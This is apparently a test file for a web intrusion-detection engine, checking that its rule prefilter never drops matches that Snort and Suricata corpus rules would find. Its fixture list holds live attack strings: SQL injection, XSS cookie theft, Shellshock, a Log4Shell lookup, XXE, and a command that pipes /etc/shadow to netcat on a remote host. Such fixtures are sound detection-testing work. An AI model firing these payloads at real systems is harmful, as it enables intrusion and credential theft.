/**
 * Guards the prefilter (fast pattern + second-level literal conditions + regex minimum length) against
 * losing matches: for every corpus HTTP rule, a request is built from the rule's own contents, and the
 * gate must report the rule exactly when evaluating that rule alone (no prefilter) matches. A set of
 * attack and benign requests is checked the same way against every rule. Skipped without the corpus.
 */
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { Inspection } from '../../src/inspect/types.js';
import type { Rule } from '../../src/signatures/rule.js';
import type { CompiledRule } from '../../src/signatures/compile/compiled-rule.js';
import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
import { BufferSlots, compileRule } from '../../src/signatures/compile/compile-rule.js';
import { RequestBuffers } from '../../src/signatures/match/request-buffers.js';
import { RuleEvaluator } from '../../src/signatures/match/evaluate-rule.js';
import type { RequestSpec } from './fixtures.js';
import { buildInspection } from './fixtures.js';

const CORPUS = fileURLToPath(new URL('../../../shared/signatures-corpus', import.meta.url));
const BUNDLED = fileURLToPath(new URL('../../signatures', import.meta.url));
const present = existsSync(CORPUS);

/** Rules whose outcome depends on more than this request's bytes are left out of the comparison. */
function standalone(rule: Rule): boolean {
  return rule.flowbits.length === 0 && rule.threshold === null && rule.detectionFilter === null && rule.header.source.any && rule.header.source.exclude.length === 0;
}

/** A request holding each positive content of the rule, in order, in (roughly) its buffer. */
function requestFor(rule: Rule): RequestSpec {
  let url = '/';
  let method = 'GET';
  let body = '';
  let header = '';
  let cookie = '';
  const fields: Array<[string, string]> = [];
  for (const o of rule.detection) {
    if (o.kind !== 'content' || o.negated) continue;
    if (o.buffer.headerField !== null) fields.push([o.buffer.headerField, o.bytes]);
    else if (o.buffer.name === 'uri' || o.buffer.name === 'rawUri') url += o.bytes;
    else if (o.buffer.name === 'method') method = o.bytes;
    else if (o.buffer.name === 'header' || o.buffer.name === 'rawHeader') header += o.bytes;
    else if (o.buffer.name === 'cookie' || o.buffer.name === 'rawCookie') cookie += o.bytes;
    else body += o.bytes;
  }
  const headers: Array<[string, string]> = [['Host', 'example.test'], ...fields];
  if (header) headers.push(['X-Test', header]);
  if (cookie) headers.push(['Cookie', cookie]);
  return { method, url, headers, body };
}

const ATTACKS: RequestSpec[] = [
  { url: "/item.php?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--&file=../../etc/passwd" },
  { url: '/search?q=<script>alert(document.cookie)</script>' },
  { url: '/cgi-bin/test.cgi', headers: [['Host', 'h'], ['User-Agent', '() { :; }; /bin/bash -c "cat /etc/passwd"']] },
  { url: '/', headers: [['Host', 'h'], ['X-Api-Version', '${jndi:ldap://evil.example/a}'], ['User-Agent', 'sqlmap/1.7']] },
  { url: '/index.php?page=php://filter/convert.base64-encode/resource=index.php' },
  { url: '/wp-login.php', method: 'POST', headers: [['Host', 'h'], ['Content-Type', 'application/x-www-form-urlencoded']], body: 'log=admin&pwd=x;cat /etc/shadow|nc 1.2.3.4 4444' },
  { url: '/api', method: 'POST', headers: [['Host', 'h'], ['Content-Type', 'text/xml']], body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { url: '/.env', headers: [['Host', 'h'], ['User-Agent', 'Nikto/2.1.6'], ['Accept-Language', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa']] },
  { url: `/${'A'.repeat(600)}`, headers: [['Host', 'h'], ['User-Agent', 'Mozilla/4.0 (compatible; MSIE 6.0; http://evil.example)']] },
  { url: '/products/42?ref=home', headers: [['Host', 'shop.example.com'], ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0'], ['Cookie', 'session=3f9a']] },
];

describe.skipIf(!present)('prefilter never loses a match (corpus)', () => {
  it('reports each rule exactly when evaluating it alone matches', async () => {
    const { gate, rules } = await loadRuleSet([BUNDLED, `${CORPUS}/et-open-snort-2.9`, `${CORPUS}/snort3-community`, `${CORPUS}/et-open-suricata-5.0`]);
    const slots = new BufferSlots();
    const compiled: CompiledRule[] = [];
    for (const rule of rules) {
      if (!rule.enabled || !standalone(rule)) continue;
      try {
        compiled.push(compileRule(rule, compiled.length, 'suspicious', slots));
      } catch {
        // Rules the gate also fails to compile are absent from both sides.
      }
    }
    const buffers = new RequestBuffers(slots.headerFields);
    const evaluator = new RuleEvaluator();
    const alone = (c: CompiledRule, inspection: Inspection): boolean => {
      buffers.load(inspection);
      return evaluator.evaluate(c, buffers) !== null;
    };
    const firing = (inspection: Inspection): Set<string> => new Set(gate.evaluate(inspection).hits.map((h) => `${h.gid}:${h.sid}`));

    const mismatches: string[] = [];
    let matchedOwnRequest = 0;
    for (const c of compiled) {
      const inspection = buildInspection(requestFor(c.rule));
      const expected = alone(c, inspection);
      if (expected) matchedOwnRequest++;
      if (firing(inspection).has(`${c.rule.gid}:${c.rule.sid}`) !== expected) mismatches.push(`${c.rule.gid}:${c.rule.sid} own request, alone=${expected}`);
    }
    for (const [i, spec] of ATTACKS.entries()) {
      const inspection = buildInspection(spec);
      const fired = firing(inspection);
      for (const c of compiled) {
        if (fired.has(`${c.rule.gid}:${c.rule.sid}`) !== alone(c, inspection)) mismatches.push(`${c.rule.gid}:${c.rule.sid} request ${i}`);
      }
    }
    expect(mismatches).toEqual([]);
    // The guard only means something if many rules match the request built for them.
    expect(matchedOwnRequest).toBeGreaterThan(compiled.length / 4);
  }, 300_000);
});
